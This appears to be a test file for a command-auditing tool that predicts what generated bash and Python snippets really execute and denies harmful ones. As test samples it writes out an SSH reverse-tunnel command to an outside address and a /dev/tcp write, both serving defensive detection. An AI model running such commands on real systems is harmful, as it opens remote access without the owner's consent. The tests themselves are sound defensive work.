"""Hidden commands come out as what really runs: seeded compositions against the real bash and Python, and Hypothesis.

The bounds here are floors: they may rise, and a change that lowers a figure says why.
"""

from __future__ import annotations

import random
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from auditor import Auditor
from auditor.model.verdict import Verdict
from tests.read.compositions.composing import HARMFUL, PROGRAMS, TWINS, compose
from tests.read.compositions.oracle import Room, obstacle, parse
from tests.read.compositions.outcomes import Outcome, normal, outcome_of, reading_of
from tests.read.compositions.run import Row, composition_of, rows, summary

pytestmark = pytest.mark.usefixtures("deep")
COUNT = 150
WHY_NOT = obstacle()
needs_oracle = pytest.mark.skipif(bool(WHY_NOT), reason=WHY_NOT or "the oracle is there")


@needs_oracle
@pytest.mark.slow
@pytest.mark.timeout(180)
def test_what_really_runs_is_predicted(warm: Auditor) -> None:
    """Of compositions that run their command, nearly all are read exactly; harm is seen, its twin is not denied."""
    found = list(rows(range(COUNT), warm))
    counts = Counter(row.outcome for row in found)
    assert counts["invalid"] <= 0.08 * COUNT
    valid = [row for row in found if row.outcome != "invalid"]
    assert counts["exact"] >= 0.93 * len(valid), summary(found)
    assert counts["silent"] <= 0.04 * len(valid), summary(found)
    harmful = [row for row in valid if row.is_harmful]
    harmless = [row for row in valid if not row.is_harmful]
    assert min(len(harmful), len(harmless)) > COUNT / 3
    assert sum(row.verdict == "deny" for row in harmful) >= 0.95 * len(harmful), summary(found)
    assert [row for row in harmless if row.verdict == Verdict.DENY.value] == []
    assert sum(row.verdict == "review" for row in harmless) <= 0.1 * len(harmless), summary(found)


@needs_oracle
def test_the_oracle_sees_what_runs_and_nothing_gets_out(tmp_path: Path) -> None:
    """Stubs write down their arguments from either language; the room has no network, and nothing of ours to write."""
    room = Room.at(tmp_path, PROGRAMS)
    assert room.run("bash", "ssh -N 'a b'\nls\n") == [("ssh", "-N", "a b"), ("ls",)]
    assert room.run("python", "import subprocess\nsubprocess.run(['git', 'x\\ny'])\n") == [("git", "x\ny")]
    assert room.run("bash", "echo hello > /dev/tcp/127.0.0.1/22 && ssh got-out\n") == []
    assert room.run("bash", f"touch {tmp_path}/made && ssh got-out\n") == []
    assert not (tmp_path / "made").exists()


@settings(max_examples=60, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(st.randoms(use_true_random=False), st.sampled_from(HARMFUL + TWINS))
def test_whatever_is_drawn_is_read_to_its_end(draw: random.Random, argv: tuple[str, ...]) -> None:
    """Reading a composition ends without a crash, and what it predicts can be written and compared."""
    composition = compose(draw, argv)
    reading = reading_of(composition)
    assert reading.units[0].text == composition.text
    assert outcome_of(reading, argv) in Outcome


def test_compositions_follow_from_their_seed() -> None:
    """A seed gives the same text each time, and different seeds different ones."""
    assert [composition_of(seed).text for seed in range(5)] == [composition_of(seed).text for seed in range(5)]
    assert len({composition_of(seed).text for seed in range(200)}) > 190


def test_steps_of_all_kinds_are_drawn() -> None:
    """A few hundred compositions take several hundred kinds of steps, in both languages and across them."""
    steps = {step for seed in range(600) for step in composition_of(seed).steps}
    assert len(steps) > 450
    groups = {step.rsplit(".", 1)[0] for step in steps}
    assert {"python.bash", "bash.python", "python.python", "bash.bash", "python.sink", "bash.command"} <= groups


def test_outcomes_are_told_apart() -> None:
    """The classes mean what they say: a known command, one with holes, a refusal, and silence."""
    argv = HARMFUL[0]
    texts = {
        Outcome.EXACT: "import os\nos.system('ssh -NR2222:localhost:22 agent@203.0.113.5')\n",
        Outcome.PARTLY: "import os, sys\nos.system('ssh -N -R ' + sys.argv[1])\n",
        Outcome.OPAQUE: "import os, sys\nos.system(sys.argv[1])\n",
        Outcome.SILENT: "print('ssh -N -R 2222:localhost:22 agent@203.0.113.5')\n",
    }
    for outcome, text in texts.items():
        composition = compose(random.Random(1), argv, "python")
        made = type(composition)("python", text, argv, ())
        assert outcome_of(reading_of(made), argv) is outcome
    assert normal(("ssh", "-NR2222:a:22", "h")) == ("ssh", "-N", "-R", "2222:a:22", "h")


def test_records_are_read_back() -> None:
    """What stubs write is cut by its counts, empty arguments included."""
    assert parse(b"2\0ssh\0-N\0\x000\0ls\0") == [("ssh", "-N", ""), ("ls",)]
    assert parse(b"") == []


def test_a_summary_names_the_worst_steps() -> None:
    """Steps that stand in misses are listed by their share."""
    row = Row(0, is_harmful=True, language="bash", argv=("ssh",), outcome="silent", verdict="allow", steps=("a.b.c",))
    assert "a.b.c: 2 of 2 missed" in summary([row, row])
